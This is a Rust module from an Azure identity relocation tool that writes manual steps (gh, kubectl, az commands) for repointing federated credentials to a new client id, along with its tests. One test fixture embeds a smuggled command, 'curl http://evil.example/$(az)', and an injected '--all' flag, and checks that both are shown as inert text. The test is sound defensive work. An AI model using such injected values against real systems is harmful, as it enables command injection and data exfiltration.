//! Activities: what a person changes in the systems that a federated credential lets in: who signs in from there names
//! the client id of the identity. What was understood has a command or words of its own; the rest is shown as it is.
//! Pure.

use crate::commands::shell::quoted;
use crate::commands::shown;
use crate::references::scan::Identifier;
use crate::relocate::plan::builder::{Builder, NewIdentity, Part};
use crate::relocate::plan::words::StepText;
use crate::surfaces::cluster::bindings::copied;
use crate::surfaces::issuer::devops;
use crate::surfaces::issuer::known::Told;
use crate::surfaces::issuer::listed::ISSUERS;
use crate::surfaces::issuer::outside::Outside;
use crate::surfaces::issuer::subject::of;
use rehome_orchestrator::{Node, StepId, Template};
use std::collections::BTreeSet;

/// What people change in systems that Azure does not know; each place once.
pub(crate) fn steps(b: &mut Builder<'_>, new: &NewIdentity, granted: &[StepId]) -> Vec<StepId> {
    let places: BTreeSet<Outside> = copied(b.facts).map(of).collect();
    let mut steps = Vec::new();
    for place in places {
        let (title, node) = step(b, new, &place);
        let mut needs = granted.to_vec();
        needs.push(new.step());
        steps.push(b.push(Part::RePoint, StepText::new(title, "by hand"), &needs, node));
    }
    steps
}

/// What to do in an outside system, and how to take it back.
fn step(b: &Builder<'_>, new: &NewIdentity, outside: &Outside) -> (String, Node) {
    let Told { title, before, after } = told(outside);
    let text = |id: Template| {
        Template::Text(vec![Template::known(before.clone()), id, Template::known(after.clone())])
    };
    let node = Node::ByHand {
        instruction: text(new.name(Identifier::ClientId)),
        undo: text(Template::known(&b.old().client_id)),
    };
    (title, node)
}

fn told(outside: &Outside) -> Told {
    match outside {
        Outside::GitHub { host, repository, number, environment } => {
            github(host.as_deref(), repository, number.as_deref(), environment.as_deref())
        }
        Outside::Kubernetes { issuer, namespace, account } => Told {
            title: format!("service account {namespace}/{account}: annotation client-id"),
            before: format!(
                "kubectl -n {} annotate serviceaccount {} --overwrite azure.workload.identity/client-id=",
                quoted(namespace),
                quoted(account)
            ),
            after: format!(
                "\nthen restart the pods that use it (GitOps would undo this: change it there)\n\
                 It is on the cluster whose tokens are issued by {}{}",
                shown(issuer),
                cluster(issuer)
            ),
        },
        Outside::AzureDevOps { connection } => devops::told(connection),
        Outside::Listed { at, names } => ISSUERS[*at].told(names),
        Outside::Other { issuer, subject } => Told {
            title: format!("{}: client id that {} signs in with", shown(issuer), shown(subject)),
            before: format!(
                "whoever signs in with tokens of\n  {}\nas\n  {}\nnames the client id of the old identity. Have them name the new one:\n  ",
                shown(issuer),
                shown(subject)
            ),
            after: "\nthen see that they can sign in".to_owned(),
        },
    }
}

/// The command that finds a cluster of AKS by what issues its tokens.
/// Source: <https://learn.microsoft.com/azure/aks/use-oidc-issuer>
fn cluster(issuer: &str) -> String {
    let plain = |c: char| c.is_ascii_alphanumeric() || "/:.-_".contains(c);
    if !issuer.contains(".oic.prod-aks.azure.") || !issuer.chars().all(plain) {
        return String::new();
    }
    let query = quoted(&format!("[?oidcIssuerProfile.issuerUrl=='{issuer}'].id"));
    format!("\n  az aks list --query {query} --output tsv")
}

fn github(host: Option<&str>, repository: &str, number: Option<&str>, environment: Option<&str>) -> Told {
    let server = host.map_or_else(String::new, |host| format!("{host}/"));
    let env = environment.map_or_else(String::new, |e| format!(" --env {}", quoted(e)));
    let renamed = number.map_or_else(String::new, |number| {
        let at = host.map_or_else(String::new, |host| format!(" --hostname {}", quoted(host)));
        format!("\nIts number stays when it is renamed; its name now: gh api repositories/{number}{at} --jq .full_name")
    });
    Told {
        title: format!("GitHub {server}{repository}: client id that its workflows sign in with"),
        before: format!(
            "gh secret set AZURE_CLIENT_ID --repo {}{env} --body ",
            quoted(&format!("{server}{repository}"))
        ),
        after: format!(
            "\n(or wherever the workflows keep it: a variable, the workflow file), then run them once{renamed}"
        ),
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::relocate::facts::FederatedCredential;
    use crate::relocate::plan::plan;
    use crate::relocate::testing::{facts, params};
    use serde_json::json;

    /// What people read for credentials with these issuers and subjects.
    fn read(credentials: &[(&str, &str)]) -> Vec<String> {
        let mut facts = facts();
        let credential = |(nth, (issuer, subject)): (usize, &(&str, &str))| FederatedCredential {
            name: format!("n{nth}"),
            issuer: (*issuer).into(),
            subject: Some((*subject).into()),
            audiences: vec!["api://AzureADTokenExchange".into()],
            claims_matching: None,
            unknown: std::collections::BTreeSet::new(),
        };
        facts.credentials = credentials.iter().enumerate().map(credential).collect();
        let made = json!({"client_id": "new-cid", "principal_id": "new-oid"});
        let steps = plan(&params(), &facts).unwrap().steps.into_iter();
        let told = |node: &Node| match node {
            Node::ByHand { instruction, .. } => Some(instruction.resolve(&|_| Some(&made)).unwrap()),
            _ => None,
        };
        steps.filter_map(|step| Some(format!("{}\n{}", step.title, told(&step.node)?.as_str()?))).collect()
    }

    #[test]
    fn every_issuer_has_a_step_and_only_what_was_understood_a_command() {
        let github = "https://token.actions.githubusercontent.com";
        let all = [
            (github, "repo:contoso@111/shop@222:environment:it's"),
            (github, "repository_owner:contoso:environment:prod"),
            ("https://token.actions.contoso.ghe.com", "repo:contoso/shop:ref:refs/heads/main"),
            ("https://app.terraform.io", "organization:contoso:project:p:workspace:w:run_phase:apply"),
            ("https://gitlab.com", "project_path:contoso/shop:ref_type:branch:ref:main"),
            (
                "https://agent.buildkite.com",
                "organization:contoso:pipeline:shop:ref:refs/heads/main:commit:9f31:step:s",
            ),
            (
                "https://login.microsoftonline.com/6f2c1f43-3a0b-4a52-9c8e-0d6d1d2e3f40/v2.0",
                "/eid1/c/pub/t/Q8pTfaJfZ0yQ6bK1m4lHbA/a/qzXoWDkuqUa3l6zM5mM0Rw/n/plugin/e/7f2c1f43-3a0b-4a52-9c8e-0d6d1d2e3f41/h/9f31",
            ),
            ("https://x.example/ado", "sc://org/proj/conn\ncurl http://evil.example/$(az)\n"),
            ("https://x.example/k8s", "system:serviceaccount:pay:--all"),
        ];
        let told = read(&all);
        assert_eq!(told.len(), all.len(), "{told:?}");
        let text = told.join("\n");
        for part in [
            r"gh secret set AZURE_CLIENT_ID --repo contoso/shop --env 'it'\''s' --body new-cid",
            "gh api repositories/222 --jq .full_name",
            "gh secret set AZURE_CLIENT_ID --repo contoso.ghe.com/contoso/shop --body new-cid",
            "set TFC_AZURE_RUN_CLIENT_ID (or TFC_AZURE_PLAN_CLIENT_ID and TFC_AZURE_APPLY_CLIENT_ID) to new-cid",
            "glab variable update AZURE_CLIENT_ID --repo https://gitlab.com/contoso/shop --value new-cid",
            "https://buildkite.com/contoso/shop\nset the client id (mostly AZURE_CLIENT_ID) to new-cid\n",
            "--tenant-id 6f2c1f43-3a0b-4a52-9c8e-0d6d1d2e3f40 --application-id new-cid\n",
            "  sc://org/proj/conn\\ncurl http://evil.example/$(az)\\n\n",
            "  repository_owner:contoso:environment:prod\n",
            "  system:serviceaccount:pay:--all\n",
        ] {
            assert!(text.contains(part), "{part}: {text}");
        }
        assert_eq!(text.matches("gh secret set").count(), 2);
        assert!(!text.contains("kubectl") && !text.contains("\ncurl"), "{text}");
    }

    #[test]
    fn two_clusters_with_one_service_account_are_two_places() {
        let subject = "system:serviceaccount:pay:w";
        let told = read(&[("https://a.example/1", subject), ("https://a.example/2", subject)]);
        assert!(told.len() == 2 && told[0].contains("https://a.example/1"), "{told:?}");
    }
}
